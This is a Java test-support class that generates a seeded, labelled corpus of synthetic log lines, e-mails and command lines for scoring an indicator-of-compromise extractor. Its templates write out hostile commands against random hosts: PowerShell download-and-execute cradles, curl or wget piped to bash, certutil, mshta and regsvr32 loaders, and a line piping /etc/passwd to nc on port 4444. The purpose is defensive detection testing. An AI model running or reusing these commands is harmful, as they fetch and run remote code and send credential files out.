package dev.hunt4j.analysis.ioc;

import dev.hunt4j.api.IocType;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;

/**
 * A labelled corpus for measuring precision and recall: realistic command lines, log lines, e-mails and reports
 * built from templates, with planted indicators of every type (some defanged, some quoted, bracketed or followed
 * by punctuation) and hard negatives that must yield nothing (version numbers, script file names, GUIDs, long hex
 * strings, build numbers, user@host path segments, code such as {@code shell.Run}). Each line carries the exact set
 * of (type, observable) an extractor with paths enabled should report. Deterministic for a seed.
 */
final class IocCorpus {
    record Label(IocType type, String value) {
    }

    record Line(String text, Set<Label> labels) {
    }

    private static final String[] TLDS = {"com", "net", "org", "ru", "cn", "io", "info", "xyz", "top", "biz", "de", "fr",
        "co.uk", "com.au", "in", "cc", "su", "ws", "online", "site", "club", "co.jp", "com.br", "kr", "app", "dev"};
    private static final String[] WORDS = {"update", "secure", "login", "cdn", "mail", "files", "portal", "sync", "api",
        "static", "data", "cloud", "micro", "office", "support", "account", "verify", "service", "global", "track"};
    private static final String[] USERS = {"john.doe", "admin", "billing-team", "a.b+tag", "j_smith", "helpdesk",
        "no-reply", "finance.dept", "root", "svc-backup"};
    private static final String[] EXTS = {"exe", "dll", "ps1", "bat", "vbs", "js", "hta", "zip", "docx", "pdf", "php", "txt"};
    private static final String[] NAMES = {"svchost", "update", "payload", "invoice", "setup", "runner", "agent", "loader",
        "report", "stage2"};

    private final Random r;
    private final StringBuilder text = new StringBuilder();
    private final Set<Label> labels = new LinkedHashSet<>();

    private IocCorpus(Random r) {
        this.r = r;
    }

    static List<Line> generate(long seed, int lines) {
        Random r = new Random(seed);
        List<Line> out = new ArrayList<>(lines);
        for (int i = 0; i < lines; i++) {
            IocCorpus c = new IocCorpus(r);
            c.line(r.nextInt(34));
            out.add(new Line(c.text.toString(), Set.copyOf(c.labels)));
        }
        return out;
    }

    // ------------------------------------------------------------------ building

    private IocCorpus t(String s) {
        text.append(s);
        return this;
    }

    /** Appends {@code written} and expects {@code value} of {@code type}. */
    private IocCorpus ioc(IocType type, String written, String value) {
        text.append(written);
        labels.add(new Label(type, value));
        return this;
    }

    private IocCorpus ioc(IocType type, String value) {
        return ioc(type, value, value);
    }

    private <T> T pick(T[] a) {
        return a[r.nextInt(a.length)];
    }

    private boolean chance(int percent) {
        return r.nextInt(100) < percent;
    }

    // ------------------------------------------------------------------ values

    private String label() {
        int len = 3 + r.nextInt(9);
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < len; i++) {
            sb.append(i > 0 && i < len - 1 && r.nextInt(9) == 0 ? '-' : (char) (r.nextInt(5) == 0 ? '0' + r.nextInt(10) : 'a' + r.nextInt(26)));
        }
        if (sb.indexOf("--") >= 0) {
            return "x" + sb.toString().replace("--", "a");
        }
        return chance(40) ? pick(WORDS) + "-" + sb : sb.toString();
    }

    private String domain() {
        StringBuilder sb = new StringBuilder();
        int extra = r.nextInt(3);
        if (chance(15)) {
            sb.append("www.");
        }
        for (int i = 0; i < extra; i++) {
            sb.append(pick(WORDS)).append('.');
        }
        return sb.append(label()).append('.').append(pick(TLDS)).toString();
    }

    private String ip() {
        return (1 + r.nextInt(223)) + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + (1 + r.nextInt(254));
    }

    private String ipv6() {
        int[] g = new int[8];
        for (int i = 0; i < 8; i++) {
            g[i] = r.nextInt(0x10000);
        }
        g[0] = 0x2001 + r.nextInt(0x1000);
        switch (r.nextInt(4)) {
            case 0: { // full, maybe zero-padded
                StringBuilder sb = new StringBuilder();
                boolean pad = chance(50);
                for (int i = 0; i < 8; i++) {
                    sb.append(i > 0 ? ":" : "").append(pad ? String.format("%04x", g[i]) : Integer.toHexString(g[i]));
                }
                return sb.toString();
            }
            case 1: { // compressed zero run in the middle
                int from = 1 + r.nextInt(4);
                int to = from + 1 + r.nextInt(3);
                StringBuilder sb = new StringBuilder();
                for (int i = 0; i < from; i++) {
                    sb.append(i > 0 ? ":" : "").append(Integer.toHexString(g[i]));
                }
                sb.append("::");
                for (int i = to; i < 8; i++) {
                    sb.append(i > to ? ":" : "").append(Integer.toHexString(g[i]));
                }
                return sb.toString();
            }
            case 2:
                return "::ffff:" + ip();
            default:
                return "fe80::" + Integer.toHexString(g[5] | 0x1000) + ":" + Integer.toHexString(g[6]) + ":" + Integer.toHexString(g[7]);
        }
    }

    private String hex(int len) {
        StringBuilder sb = new StringBuilder(len);
        boolean upper = chance(25);
        while (true) {
            sb.setLength(0);
            boolean digit = false;
            boolean letter = false;
            for (int i = 0; i < len; i++) {
                int v = r.nextInt(16);
                digit |= v < 10;
                letter |= v >= 10;
                sb.append(Character.forDigit(v, 16));
            }
            if (digit && letter) {
                break;
            }
        }
        return upper ? sb.toString().toUpperCase(Locale.ROOT) : sb.toString();
    }

    private String hash() {
        int k = r.nextInt(3);
        return hex(k == 0 ? 32 : k == 1 ? 40 : 64);
    }

    private static IocType hashType(String h) {
        return h.length() == 32 ? IocType.MD5_HASH : h.length() == 40 ? IocType.SHA1_HASH : IocType.SHA256_HASH;
    }

    private String file() {
        return pick(NAMES) + (chance(30) ? String.valueOf(r.nextInt(100)) : "") + "." + pick(EXTS);
    }

    private String path() {
        StringBuilder sb = new StringBuilder();
        int n = 1 + r.nextInt(3);
        for (int i = 0; i < n; i++) {
            sb.append('/').append(chance(50) ? pick(WORDS) : label());
        }
        if (chance(60)) {
            sb.append('/').append(file());
        } else if (chance(30)) {
            sb.append('/');
        }
        if (chance(35)) {
            sb.append("?id=").append(r.nextInt(10000)).append(chance(50) ? "&q=" + label() : "");
        }
        return sb.toString();
    }

    private String email() {
        return pick(USERS) + "@" + domain();
    }

    private String winPath() {
        String user = pick(new String[] {"bob", "alice", "svc_sql", "Administrator", "j.smith"});
        return switch (r.nextInt(6)) {
            case 0 -> "C:\\Users\\" + user + "\\AppData\\Local\\Temp\\" + file();
            case 1 -> "C:\\Windows\\System32\\" + pick(new String[] {"rundll32.exe", "cmd.exe", "wbem\\WMIC.exe", "drivers\\etc\\hosts"});
            case 2 -> "%APPDATA%\\" + pick(WORDS) + "\\" + file();
            case 3 -> "C:\\ProgramData\\" + label() + "\\" + file();
            case 4 -> "D:\\share\\" + pick(WORDS) + "\\" + pick(NAMES) + ".log";
            default -> "C:\\Windows\\Temp\\" + file();
        };
    }

    private String lxPath() {
        return switch (r.nextInt(6)) {
            case 0 -> "/tmp/." + label() + "/" + pick(NAMES);
            case 1 -> "/usr/bin/" + pick(new String[] {"python3", "curl", "wget", "base64", "nc"});
            case 2 -> "/etc/" + pick(new String[] {"passwd", "shadow", "cron.d/" + label(), "ssh/sshd_config"});
            case 3 -> "/var/www/html/" + pick(NAMES) + ".php";
            case 4 -> "/dev/shm/" + label();
            default -> "/home/" + pick(new String[] {"ubuntu", "deploy", "ec2-user"}) + "/.ssh/authorized_keys";
        };
    }

    private String scheme() {
        return pick(new String[] {"http", "https", "https", "http", "ftp"});
    }

    private String url() {
        String host = chance(20) ? ip() : domain();
        String port = chance(15) ? ":" + (1024 + r.nextInt(60000)) : "";
        return scheme() + "://" + host + port + (chance(85) ? path() : "");
    }

    // ------------------------------------------------------------------ defanging

    private static String defangDots(String s, String dot) {
        return s.replace(".", dot);
    }

    private String dot() {
        return pick(new String[] {"[.]", "(.)", "[dot]", "[.]"});
    }

    /** Plants a URL, sometimes defanged; also labels what the URL's path holds (found by scanning inside URLs). */
    private void plantUrl(String u) {
        String written = u;
        if (chance(20)) {
            int hostStart = u.indexOf("://") + 3;
            int hostEnd = hostStart;
            while (hostEnd < u.length() && "/?:".indexOf(u.charAt(hostEnd)) < 0) {
                hostEnd++;
            }
            String scheme = u.substring(0, hostStart - 3);
            String fanged = scheme.startsWith("http") ? "hxxp" + scheme.substring(4) : scheme.equals("ftp") ? "fxp" : scheme;
            String sep = chance(30) ? "[://]" : "://";
            written = fanged + sep + defangDots(u.substring(hostStart, hostEnd), dot()) + u.substring(hostEnd);
        }
        ioc(IocType.URL, written, u);
    }

    private void plantDomain() {
        String d = domain();
        ioc(IocType.DNS, chance(20) ? defangDots(d, dot()) : d, d);
    }

    private void plantIp() {
        String ip = ip();
        if (chance(15)) {
            int last = ip.lastIndexOf('.');
            ioc(IocType.IPV4, ip.substring(0, last) + "[.]" + ip.substring(last + 1), ip);
        } else {
            ioc(IocType.IPV4, ip);
        }
    }

    private void plantEmail() {
        String e = email();
        if (chance(15)) {
            int at = e.indexOf('@');
            String style = pick(new String[] {"[at]", " [at] ", "(at)"});
            String dom = e.substring(at + 1);
            ioc(IocType.EMAIL, e.substring(0, at) + style + (style.startsWith(" ") ? dom.replace(".", " [dot] ") : defangDots(dom, "[.]")), e);
        } else {
            ioc(IocType.EMAIL, e);
        }
    }

    private void plantHash() {
        String h = hash();
        ioc(hashType(h), h);
    }

    /** Text that looks like indicators but is not one. */
    private void negative() {
        switch (r.nextInt(24)) {
            case 0 -> t("version " + r.nextInt(20) + "." + r.nextInt(10) + "." + r.nextInt(10) + "." + r.nextInt(200));
            case 1 -> t("v" + r.nextInt(20) + "." + r.nextInt(10) + "." + r.nextInt(10) + "." + r.nextInt(100));
            case 2 -> t("Microsoft Windows [Version 10.0." + (17000 + r.nextInt(5000)) + "." + r.nextInt(4000) + "]");
            case 3 -> t("Chrome/" + (100 + r.nextInt(30)) + ".0.0.0 Safari/537.36");
            case 4 -> t(pick(new String[] {"install.sh", "main.py", "run.ps1", "setup.msi", "invoice.pdf.zip", "libssl.so.3",
                "README.md", "notes.one", "deploy.pl", "build.rs", "Makefile.mk", "nt5.cat", "video.mov"}));
            case 5 -> {
                String g = hex(8) + "-" + hex(4) + "-" + hex(4) + "-" + hex(4) + "-" + hex(12);
                t(chance(50) ? "{" + g + "}" : g);
            }
            case 6 -> t(hex(48));
            case 7 -> t(hex(128));
            case 8 -> {
                StringBuilder d = new StringBuilder();
                for (int i = 0; i < 32; i++) {
                    d.append(r.nextInt(10));
                }
                t("order " + d);
            }
            case 9 -> t("build " + r.nextInt(10) + "." + r.nextInt(10) + "." + r.nextInt(10) + "." + r.nextInt(256));
            case 10 -> t("pkg-" + r.nextInt(5) + "." + r.nextInt(10) + "." + r.nextInt(10) + "." + r.nextInt(10) + ".tar.gz");
            case 11 -> t("WScript.Shell").t(" ").t("shell.Run").t(" ").t("Net.WebClient");
            case 12 -> t("$wc.DownloadString($u)");
            case 13 -> t("[Convert]::FromBase64String($s)");
            case 14 -> t(r.nextInt(24) + ":" + (10 + r.nextInt(50)) + ":" + (10 + r.nextInt(50)));
            case 15 -> t(String.format("%02x:%02x:%02x:%02x:%02x:%02x", r.nextInt(256), r.nextInt(256), r.nextInt(256),
                    r.nextInt(256), r.nextInt(256), r.nextInt(256)));
            case 16 -> t("std::vector<int>");
            case 17 -> t("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
            case 18 -> t(r.nextInt(5) + "." + r.nextInt(10) + "." + r.nextInt(10) + "." + r.nextInt(10) + "." + r.nextInt(10));
            case 19 -> t("user.name=" + pick(USERS));
            case 20 -> t("git checkout release-" + r.nextInt(5) + "." + r.nextInt(9));
            case 21 -> t("/c");
            case 22 -> t("3.14159 and 2024.05.0" + r.nextInt(10));
            default -> t("JAB" + hex(10) + "AGUAbgB0ACAAPQAgAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABTAHkAcwB0AGUAbQAuAE4AZQB0AA==");
        }
    }

    // ------------------------------------------------------------------ templates

    private void line(int template) {
        switch (template) {
            case 0 -> {
                String u = url();
                t("powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('");
                plantUrl(u);
                t("')\"");
            }
            case 1 -> {
                String u = url();
                t("cmd.exe /c certutil -urlcache -split -f ");
                plantUrl(u);
                t(" ");
                ioc(IocType.WINDOWS_PATH, winPath());
            }
            case 2 -> {
                String u = url();
                t(chance(50) ? "curl -sSL " : "wget -q -O- ");
                plantUrl(u);
                t(" | bash");
            }
            case 3 -> {
                t(pick(new String[] {"ping -n 1 ", "nslookup ", "Resolve-DnsName ", "dig +short "}));
                if (chance(50)) {
                    plantDomain();
                } else {
                    plantIp();
                }
            }
            case 4 -> {
                t("Connection from ");
                plantIp();
                t(":" + (1024 + r.nextInt(60000)) + " to ");
                plantIp();
                t(":443 (");
                plantDomain();
                t(") bytes=" + r.nextInt(100000));
            }
            case 5 -> {
                t("Mail from ");
                plantEmail();
                t(" to <");
                plantEmail();
                t("> subject \"Invoice " + r.nextInt(9999) + "\" attachment sha=");
                plantHash();
            }
            case 6 -> {
                t("FileHash=");
                plantHash();
                t(" Path=\"");
                ioc(IocType.WINDOWS_PATH, winPath());
                t("\" Signer=\"Microsoft Windows\"");
            }
            case 7 -> {
                t("ssh -i ");
                ioc(IocType.LINUX_PATH, "~/.ssh/id_rsa");
                t(" root@");
                plantIp();
                t(" -p 22");
            }
            case 8 -> {
                String u = url();
                t("Invoke-WebRequest -Uri ");
                plantUrl(u);
                t(" -OutFile ");
                ioc(IocType.WINDOWS_PATH, winPath());
            }
            case 9 -> {
                String ip = ip();
                t("net use ");
                ioc(IocType.WINDOWS_PATH, "\\\\" + ip + "\\c$");
                labels.add(new Label(IocType.IPV4, ip));
                t(" /user:CORP\\admin");
            }
            case 10 -> {
                String u = url();
                t("See [the report](");
                plantUrl(u);
                t(") or mail ");
                plantEmail();
                t(".");
            }
            case 11 -> {
                String v6 = ipv6();
                t("{\"src_ip\":\"");
                plantIp();
                t("\",\"dst_ip\":\"");
                ioc(IocType.IPV6, v6);
                t("\",\"sha256\":\"");
                String h = hex(64);
                ioc(IocType.SHA256_HASH, h);
                t("\",\"domain\":\"");
                plantDomain();
                t("\"}");
            }
            case 12 -> {
                t("sshd[" + r.nextInt(65000) + "]: Failed password for invalid user " + pick(USERS).replace(".", "") + " from ");
                plantIp();
                t(" port " + r.nextInt(65000) + " ssh2");
            }
            case 13 -> {
                t("IOCs: ");
                String u = url();
                plantUrl(u);
                t(" , ");
                plantDomain();
                t(" , ");
                plantIp();
                t(" , ");
                plantEmail();
            }
            case 14 -> {
                t("Installed ");
                negative();
                t("; then ran ");
                negative();
                t(" and ");
                negative();
                t(". ");
                negative();
            }
            case 15 -> {
                String u = url();
                t("mshta vbscript:CreateObject(\"Wscript.Shell\").Run(\"");
                plantUrl(u);
                t("\")(window.close)");
            }
            case 16 -> {
                String u = url();
                t("regsvr32 /s /n /u /i:");
                plantUrl(u);
                t(" scrobj.dll");
            }
            case 17 -> {
                t("rundll32.exe ");
                ioc(IocType.WINDOWS_PATH, winPath());
                t(",DllRegisterServer");
            }
            case 18 -> {
                t("GET ");
                String p = path();
                t(p.startsWith("/") ? p : "/" + p);
                t(" HTTP/1.1\" 200 " + r.nextInt(9000) + " \"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
                        + (100 + r.nextInt(30)) + ".0.0.0 Safari/537.36\" client=");
                plantIp();
            }
            case 19 -> {
                t("echo ");
                ioc(IocType.IPV6, ipv6());
                t(" ");
                plantDomain();
                t(" >> ");
                ioc(IocType.LINUX_PATH, "/etc/hosts");
            }
            case 20 -> {
                // a VirusTotal link: the hash or IP in its path is an indicator of its own
                if (chance(50)) {
                    String h = hex(64).toLowerCase(Locale.ROOT);
                    String u = "https://www.virustotal.com/gui/file/" + h;
                    t("Lookup: ");
                    ioc(IocType.URL, u);
                    labels.add(new Label(IocType.SHA256_HASH, h));
                } else {
                    String ip = ip();
                    String u = "https://www.virustotal.com/en/ip-address/" + ip + "/information/";
                    t("curl '");
                    ioc(IocType.URL, u);
                    labels.add(new Label(IocType.IPV4, ip));
                    t("'");
                }
            }
            case 21 -> {
                t("scp ");
                ioc(IocType.LINUX_PATH, lxPath());
                t(" ");
                ioc(IocType.LINUX_PATH, "/home/" + pick(new String[] {"deploy@buildhost", "ops@ci-runner"}) + "/drop/" + pick(NAMES));
                t(" && chmod +x ");
                ioc(IocType.LINUX_PATH, "./" + pick(NAMES));
            }
            case 22 -> {
                String u = url();
                t(pick(new String[] {"(", "<", "\"", "'", "[", "{"}));
                plantUrl(u);
                t(pick(new String[] {")", ">", "\"", "'", "]", "}", ".", ",", ";", ")."}));
                t(" ");
                negative();
            }
            case 23 -> {
                String inner = "C:\\Program Files\\" + pick(new String[] {"Vendor App", "Common Files", "Windows Defender"})
                        + "\\" + file();
                t("copy \"");
                ioc(IocType.WINDOWS_PATH, inner);
                t("\" ");
                ioc(IocType.WINDOWS_PATH, "\\\\" + pick(WORDS) + "-srv\\share\\" + file());
            }
            case 24 -> {
                t(pick(new String[] {"C:\\Users\\svc_backup@CONTOSO\\Desktop\\", "/home/jenkins@build01/workspace/"}));
                String p = text.toString().trim();
                labels.add(new Label(p.startsWith("C:") ? IocType.WINDOWS_PATH : IocType.LINUX_PATH, p));
                t(" ");
                negative();
                t(" ");
                plantHash();
            }
            case 25 -> {
                negative();
                t(" ");
                negative();
                t(" ");
                plantDomain();
                t(" ");
                negative();
            }
            case 26 -> {
                t("Blocklist: ");
                plantIp();
                t(",");
                plantIp();
                t(";");
                ioc(IocType.DNS, domain().toUpperCase(Locale.ROOT));
                t(" ");
                String net = (1 + r.nextInt(223)) + "." + r.nextInt(256) + "." + r.nextInt(256) + ".0";
                ioc(IocType.IPV4, net);
                t("/" + (8 + r.nextInt(24)));
            }
            case 27 -> {
                t("e.g. the host ");
                plantDomain();
                t(" (i.e. the C2) resolved to ");
                plantIp();
                t(". Mr.Smith reported it at 10 a.m. on 2024.05.01");
            }
            case 28 -> {
                t("npm install vue@3.4.1 && node server.js; dotnet build ASP.NET.csproj; System.Management.Automation.dll; "
                        + "appsettings.Development.json; config.local; MD5: ");
                String h = hex(32);
                ioc(IocType.MD5_HASH, h);
            }
            case 29 -> {
                String p = "C:\\Program Files\\" + pick(new String[] {"Google\\Chrome\\Application", "Mozilla Firefox",
                    "Microsoft Office\\root\\Office16"}) + "\\" + pick(new String[] {"chrome.exe", "firefox.exe", "WINWORD.EXE"});
                t("Process Create: Image: ");
                ioc(IocType.WINDOWS_PATH, p);
                t(" CommandLine: \"");
                ioc(IocType.WINDOWS_PATH, p);
                t("\" --type=renderer ParentImage: ");
                ioc(IocType.WINDOWS_PATH, "C:\\Windows\\explorer.exe");
            }
            case 30 -> {
                t("Reply-To: \"Support\" <");
                plantEmail();
                t(">, Cc: ");
                plantEmail();
                t("; X-Originating-IP: [");
                plantIp();
                t("]");
            }
            case 31 -> {
                String d = domain();
                switch (r.nextInt(4)) {
                    case 0 -> ioc(IocType.URL, "https://" + d + "/path/to/page.php?id=1&redirect=%2Fhome#section");
                    case 1 -> ioc(IocType.URL, "http://" + d + ":8443/a/b/");
                    case 2 -> ioc(IocType.URL, "https://user:pass@" + d + "/x");
                    default -> {
                        String inner = "https://" + d + "/login";
                        ioc(IocType.URL, "https://safelinks.protection.outlook.com/?url=" + inner.replace(":", "%3A").replace("/", "%2F")
                                + "&data=05");
                        labels.add(new Label(IocType.URL, inner));
                    }
                }
                t(" and ");
                ioc(IocType.URL, "http://[" + ipv6() + "]:8080/");
            }
            case 32 -> {
                t("sha1:");
                ioc(IocType.SHA1_HASH, hex(40));
                t(", sha256=");
                ioc(IocType.SHA256_HASH, hex(64));
                t("; md5 \"");
                ioc(IocType.MD5_HASH, hex(32));
                t("\" flags 0x" + hex(16) + " id " + hex(24));
            }
            default -> {
                String ip = ip();
                t("chmod 777 ");
                ioc(IocType.LINUX_PATH, "/tmp/" + label());
                t(" && ");
                ioc(IocType.LINUX_PATH, "/bin/sh");
                t(" -c 'cat ");
                ioc(IocType.LINUX_PATH, "/etc/passwd");
                t(" | nc ");
                ioc(IocType.IPV4, ip);
                t(" 4444'; crontab -l; ls -la ~/");
            }
        }
    }

}
